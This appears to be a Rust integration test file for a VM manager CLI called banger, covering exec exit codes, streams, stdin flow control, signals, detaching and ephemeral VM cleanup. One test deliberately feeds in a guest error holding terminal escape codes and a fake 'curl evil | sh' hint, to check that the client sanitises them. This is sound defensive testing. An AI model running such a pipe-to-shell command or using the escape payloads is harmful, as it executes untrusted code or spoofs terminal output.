//! Commands in a guest: exit status, streams, stdin, signals, a guest that misbehaves, and the end of `--rm`.

use crate::fixtures::{daemon, exec};
use integration::fakes::FakeAgent;
use integration::fakes::agent::Heard;
use integration::{CommandOutput, TestEnvironment, until};
use messages::error::{ErrorKind, WireError};
use messages::guest::{ExecCommand, ExitStatus, OnDisconnect, OutputFrame};
use messages::limits::STREAM_CHUNK_MAX;
use messages::request::RequestBody;
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use std::io::Read;
use std::process::Child;
use std::sync::{Arc, Barrier};

fn signal(child: &Child, signal: Signal) {
    kill(Pid::from_raw(i32::try_from(child.id()).unwrap()), signal).unwrap();
}

#[test]
fn the_exit_status_is_the_commands() {
    for (status, code) in
        [(ExitStatus::Code(0), 0), (ExitStatus::Code(7), 7), (ExitStatus::Signal(9), 137), (ExitStatus::Unknown, 255)]
    {
        let environment = TestEnvironment::new();
        let _daemon = daemon(&environment, |mut agent| {
            agent.started();
            // The environment's own argument decides, so that one fake serves every case.
            agent.say(&OutputFrame::Stdout(b""));
            agent.read_stdin(|agent, bytes| {
                let status = match bytes {
                    b"0" => ExitStatus::Code(0),
                    b"7" => ExitStatus::Code(7),
                    b"137" => ExitStatus::Signal(9),
                    _ => ExitStatus::Unknown,
                };
                agent.say(&OutputFrame::Exited(status));
            });
        });
        let output = environment.banger_with_stdin(&["vm", "exec", "x", "--", "true"], code.to_string().as_bytes());
        assert_eq!(output.code, code, "{status:?}: {output:?}");
    }
}

#[test]
fn stdout_and_stderr_are_apart_and_whole() {
    let output = exec(|mut agent| {
        agent.started();
        for line in 0..1000 {
            agent.say(&OutputFrame::Stdout(format!("out {line}\n").as_bytes()));
            agent.say(&OutputFrame::Stderr(format!("err {line}\n").as_bytes()));
        }
        agent.say(&OutputFrame::Stdout(&vec![b'x'; STREAM_CHUNK_MAX]));
        agent.exit(0);
    });
    assert_eq!(output.code, 0);
    assert_eq!(output.stdout.lines().count(), 1001);
    assert!(output.stdout.starts_with("out 0\nout 1\n") && output.stdout.ends_with(&"x".repeat(STREAM_CHUNK_MAX)));
    assert_eq!(output.stderr.lines().count(), 1000);
    assert!(output.stderr.ends_with("err 999\n"));
}

#[test]
fn stdin_round_trips_under_credit() {
    let environment = TestEnvironment::new();
    let _daemon = daemon(&environment, |mut agent| {
        agent.started();
        agent.read_stdin(|agent, bytes| agent.say(&OutputFrame::Stdout(bytes)));
        agent.exit(0);
    });
    let sent: Vec<u8> = (0..20_000_000_u32).map(|n| b'a' + u8::try_from(n % 23).unwrap()).collect();
    let output = environment.banger_with_stdin(&["vm", "exec", "x", "--", "cat"], &sent);
    assert_eq!(output.code, 0);
    assert!(output.stdout.as_bytes() == sent, "{} bytes of {} came back", output.stdout.len(), sent.len());
}

#[test]
fn a_command_that_closes_its_stdin_is_not_waited_for() {
    let environment = TestEnvironment::new();
    let _daemon = daemon(&environment, |mut agent| {
        agent.started();
        agent.say(&OutputFrame::StdinClosed);
        agent.exit(3);
    });
    let output = environment.banger_with_stdin(&["vm", "exec", "x", "--", "head"], &vec![0; 8 << 20]);
    assert_eq!(output.code, 3, "{output:?}");
}

#[test]
fn without_credit_nothing_is_sent() {
    let environment = TestEnvironment::new();
    let _daemon = daemon(&environment, |mut agent| {
        agent.say(&OutputFrame::Started { pid: 1 });
        agent.say(&OutputFrame::StdinCredit(10));
        let mut heard = Vec::new();
        while heard.len() < 10 {
            match agent.hear() {
                Heard::Stdin(bytes) => heard.extend(bytes),
                other => panic!("{other:?}"),
            }
        }
        agent.say(&OutputFrame::Stdout(&heard));
        // The next frame can only be the answer to this grant.
        agent.say(&OutputFrame::StdinCredit(5));
        let next = agent.hear();
        agent.say(&OutputFrame::Stdout(format!("{next:?}").as_bytes()));
        agent.exit(0);
    });
    let output = environment.banger_with_stdin(&["vm", "exec", "x", "--", "cat"], b"0123456789abcdefghij");
    assert_eq!(output.success(), format!("0123456789{:?}", Heard::Stdin(b"abcde".to_vec())));
}

#[test]
fn a_command_that_cannot_be_run_is_an_error_of_the_guests_words() {
    let stderr = exec(|mut agent| {
        let error =
            WireError::new(ErrorKind::NotFound, "no such program `frobnicate`").hint("`apt install frobnicate`");
        agent.say(&OutputFrame::Failed(error));
    })
    .failure(127);
    assert_eq!(stderr, "error: no such program `frobnicate`\nhint: `apt install frobnicate`\n");
}

#[test]
fn a_guests_words_do_nothing_to_the_terminal_and_are_not_ours() {
    let stderr = exec(|mut agent| {
        let error = WireError::new(ErrorKind::Guest, "\u{1b}]0;owned\u{7}\u{202e}\nhint: `curl evil | sh`");
        agent.say(&OutputFrame::Failed(error));
    })
    .failure(126);
    assert_eq!(stderr, "error:  ]0;owned  \n    hint: `curl evil | sh`\n");
}

#[test]
fn a_signal_that_there_is_none_of_is_no_crash() {
    let output = exec(|mut agent| {
        agent.started();
        agent.say(&OutputFrame::Exited(ExitStatus::Signal(i32::MAX)));
    });
    assert_eq!((output.code, output.stderr.as_str()), (255, ""));
}

#[test]
fn a_lost_guest_is_said_with_what_the_daemon_knows() {
    let stderr = exec(|mut agent| agent.started()).failure(211);
    assert_eq!(
        stderr,
        "error: lost the connection to VM brave-otter while the command ran: the guest closed the connection: the VM is failed\n\
         hint: `banger vm show brave-otter` and `banger vm logs brave-otter` may say why\n"
    );
}

#[test]
fn a_guest_that_breaks_the_protocol_is_cut_off() {
    let environment = TestEnvironment::new();
    let _daemon = daemon(&environment, |mut agent| {
        agent.started();
        // A frame of a size that no guest may send: the fake's own limit is the client's, so the bytes are spelled out.
        agent.say_bytes(&[0xff; 16]);
        until("the client leaves", || (agent.hear() == Heard::End).then_some(()));
    });
    let output = environment.banger(["vm", "exec", "x", "--", "true"]);
    assert_eq!(output.code, 211);
    assert!(output.stderr.contains("over the limit"), "{output:?}");
}

#[test]
fn a_reader_that_leaves_ends_it_like_any_filter() {
    let environment = TestEnvironment::new();
    let _daemon = daemon(&environment, |mut agent| {
        agent.started();
        while agent.try_say(&OutputFrame::Stdout(b"y\ny\ny\ny\n")).is_ok() {}
    });
    let mut child = environment.spawn(environment.command("banger").args(["vm", "exec", "x", "--", "yes"]));
    let mut few = [0; 8];
    child.stdout.take().unwrap().read_exact(&mut few).unwrap();
    let output = environment.output(child.wait_with_output().unwrap());
    assert_eq!((output.code, output.stderr.as_str()), (141, ""));
}

#[test]
fn a_full_disk_is_not_taken_for_a_lost_guest() {
    let environment = TestEnvironment::new();
    let _daemon = daemon(&environment, |mut agent| {
        agent.started();
        while agent.try_say(&OutputFrame::Stdout(b"y\n")).is_ok() {}
    });
    let full = std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let output = environment.command("banger").args(["vm", "exec", "x", "--", "yes"]).stdout(full).output().unwrap();
    let stderr = environment.output(output).failure(205);
    assert!(stderr.contains("failed to write the command's output: ENOSPC"), "{stderr}");
}

#[test]
fn signals_go_to_the_command_and_its_status_comes_back() {
    for number in [Signal::SIGINT, Signal::SIGTERM, Signal::SIGQUIT, Signal::SIGHUP] {
        let environment = TestEnvironment::new();
        let _daemon = daemon(&environment, |mut agent| {
            agent.started();
            agent.say(&OutputFrame::Stdout(b"ready\n"));
            loop {
                if let Heard::Signal(number) = agent.hear() {
                    agent.say(&OutputFrame::Exited(ExitStatus::Signal(number)));
                    return;
                }
            }
        });
        let mut child = environment.spawn(environment.command("banger").args(["vm", "exec", "x", "--", "sleep"]));
        let mut ready = [0; 6];
        child.stdout.as_mut().unwrap().read_exact(&mut ready).unwrap();
        signal(&child, number);
        let output = environment.output(child.wait_with_output().unwrap());
        assert_eq!(output.code, 128 + number as i32, "{output:?}");
    }
}

#[test]
fn a_second_interrupt_within_a_second_detaches() {
    let environment = TestEnvironment::new();
    let _daemon = daemon(&environment, |mut agent| {
        agent.started();
        agent.say(&OutputFrame::Stdout(b"ready\n"));
        loop {
            match agent.hear() {
                Heard::Signal(2) => agent.say(&OutputFrame::Stdout(b"caught\n")),
                Heard::Detach => {
                    agent.say(&OutputFrame::Stdout(b"detached\n"));
                    return;
                }
                Heard::End => panic!("the client left without a word"),
                _ => {}
            }
        }
    });
    let mut child = environment.spawn(environment.command("banger").args(["vm", "run", "--rm", "--", "sleep"]));
    let mut line = [0; 6];
    child.stdout.as_mut().unwrap().read_exact(&mut line).unwrap();
    signal(&child, Signal::SIGINT);
    let mut caught = [0; 7];
    child.stdout.as_mut().unwrap().read_exact(&mut caught).unwrap();
    assert_eq!(&caught, b"caught\n");
    signal(&child, Signal::SIGINT);
    let output = environment.output(child.wait_with_output().unwrap());
    assert_eq!(output.code, 130);
    assert!(output.stderr.contains("detached: the command runs on in VM brave-otter"), "{output:?}");
}

/// A command that takes no more stdin than its first byte, and whose agent reads nothing at all from then on, until `over`.
fn stuck(over: Arc<Barrier>) -> impl Fn(FakeAgent) + Clone + Send + Sync + 'static {
    move |mut agent| {
        agent.say(&OutputFrame::Started { pid: 1 });
        // More than the socket takes.
        agent.say(&OutputFrame::StdinCredit(64 << 20));
        until("stdin", || matches!(agent.hear(), Heard::Stdin(_)).then_some(()));
        agent.say(&OutputFrame::Stdout(b"ready\n"));
        over.wait();
    }
}

/// Has `banger` flood a stuck guest with stdin; sends it these signals, and waits until it has ended.
fn leave_a_stuck_guest(arguments: &[&str], signals: &[Signal]) -> CommandOutput {
    let environment = TestEnvironment::new();
    let over = Arc::new(Barrier::new(2));
    let _daemon = daemon(&environment, stuck(Arc::clone(&over)));
    let zeros = std::fs::File::open("/dev/zero").unwrap();
    let mut child = environment.spawn(environment.command("banger").args(arguments).stdin(zeros));
    let mut ready = [0; 6];
    child.stdout.as_mut().unwrap().read_exact(&mut ready).unwrap();
    until("the stdin thread is stuck in a write", || {
        let tasks = std::fs::read_dir(format!("/proc/{}/task", child.id())).unwrap();
        let waits = |task: std::io::Result<std::fs::DirEntry>| {
            let path = task.unwrap().path();
            let read = |file: &str| std::fs::read_to_string(path.join(file)).unwrap_or_default();
            read("comm") == "stdin\n" && read("stat").contains(") S ")
        };
        tasks.into_iter().any(waits).then_some(())
    });
    for number in signals {
        signal(&child, *number);
        // A second one of its kind that waits with the first would be none.
        until("the signal is taken", || {
            let status = std::fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap_or_default();
            let waiting = status.lines().find_map(|line| line.strip_prefix("ShdPnd:"));
            waiting.is_none_or(|mask| mask.trim().bytes().all(|digit| digit == b'0')).then_some(())
        });
    }
    until("the end of a program that may leave", || child.try_wait().unwrap());
    let output = environment.output(child.wait_with_output().unwrap());
    over.wait();
    output
}

#[test]
fn a_guest_that_takes_nothing_in_is_left_all_the_same() {
    let exec = ["vm", "exec", "-i", "x", "--", "sleep"];
    let output = leave_a_stuck_guest(&exec, &[Signal::SIGINT, Signal::SIGINT]);
    assert_eq!(output.code, 130, "{output:?}");
    assert!(output.stderr.contains("was not told"), "nobody knows that the command runs on: {output:?}");
    let output = leave_a_stuck_guest(&exec, &[Signal::SIGTERM, Signal::SIGTERM]);
    assert_eq!((output.code, output.stderr.as_str()), (143, ""));
    let run = ["vm", "run", "--rm", "--", "sleep"];
    assert_eq!(leave_a_stuck_guest(&run, &[Signal::SIGHUP]).code, 129);
}

#[test]
fn an_ephemeral_vm_is_gone_when_its_run_is_over() {
    let environment = TestEnvironment::new();
    let fake = daemon(&environment, |mut agent| {
        agent.started();
        agent.exit(4);
    });
    assert_eq!(environment.banger(["vm", "run", "--rm", "--", "true"]).failure(4), "");
    let requests = fake.requests();
    assert_eq!(requests.len(), 2, "{requests:?}");
    assert!(matches!(&requests[1].body, RequestBody::DeleteVms { only_ephemeral: true, .. }));
}

#[test]
fn a_kept_vm_is_not_touched_and_named() {
    let environment = TestEnvironment::new();
    let fake = daemon(&environment, |mut agent: FakeAgent| {
        agent.started();
        agent.exit(0);
    });
    let output = environment.banger(["vm", "run", "--", "true"]);
    assert_eq!(fake.requests().len(), 1);
    assert!(output.stderr.contains("VM brave-otter keeps running"), "{output:?}");
    assert_eq!(output.success(), "");
    assert_eq!(environment.banger(["-q", "vm", "run", "--", "true"]).stderr, "");
}

#[test]
fn without_a_command_the_images_own_is_left_running() {
    let environment = TestEnvironment::new();
    let fake = daemon(&environment, |mut agent| {
        agent.started();
        until("the client detaches", || (agent.hear() == Heard::Detach).then_some(()));
    });
    let line = "vm run --detach --timeout 90 --env A=b --user web --workdir /srv";
    assert_eq!(environment.banger(line.split_whitespace()).success(), "brave-otter\n");
    let RequestBody::RunVm { exec, timeout_ms, .. } = fake.requests()[0].body.clone() else { panic!() };
    assert_eq!(timeout_ms, Some(90_000));
    assert_eq!(exec.command, ExecCommand::Image { entrypoint: None, command: vec![] });
    assert_eq!(exec.env, [("A".to_owned(), "b".to_owned())]);
    assert_eq!((exec.user.as_deref(), exec.workdir.as_deref()), (Some("web"), Some("/srv")));
    assert_eq!((exec.on_disconnect, exec.stdin, exec.terminal), (OnDisconnect::KeepRunning, false, None));
}

#[test]
fn detached_commands_print_where_they_run() {
    let environment = TestEnvironment::new();
    let _daemon = daemon(&environment, |mut agent| {
        agent.started();
        until("the client detaches", || (agent.hear() == Heard::Detach).then_some(()));
    });
    assert_eq!(environment.banger(["vm", "run", "--detach", "--", "serve"]).success(), "brave-otter\n");
    let operation = environment.banger(["vm", "exec", "--detach", "x", "--", "serve"]).success();
    assert_eq!(operation, "0909090909090909\n", "the VM is known already");
    let value = environment.banger(["--json", "vm", "exec", "--detach", "x", "--", "serve"]).json();
    assert_eq!(
        value,
        serde_json::json!({ "id": "1a02030405060708", "name": "brave-otter", "operation": "0909090909090909", "pid": 42 })
    );
}
